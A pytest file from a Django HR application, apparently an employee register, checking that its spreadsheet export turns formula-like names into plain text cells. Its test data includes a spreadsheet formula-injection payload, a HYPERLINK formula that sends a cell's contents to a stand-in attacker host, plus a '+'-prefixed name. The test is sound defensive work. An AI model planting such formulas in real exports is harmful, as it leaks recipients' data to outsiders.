"""The register spreadsheet carries no live formula: a name typed as a formula is a text cell."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from effectif.contracts.tests.factories import hire
from effectif.employees.tests.factories import EmployeeFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&B2,"Registre")'


def test_a_hostile_name_is_a_text_cell(client_for, hr_manager, world) -> None:
    person = EmployeeFactory(employer=world.employer, last_name=HOSTILE, first_names="+Camille")
    hire(person, start=date(2025, 2, 3), establishment=world.establishment)
    url = reverse("register:detail", args=[world.establishment.pk])
    xlsx = client_for(hr_manager).get(url + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {str(c.value).upper() for c in cells if c.data_type == "s"}
    assert HOSTILE.upper() in texts
    assert "+CAMILLE" in texts
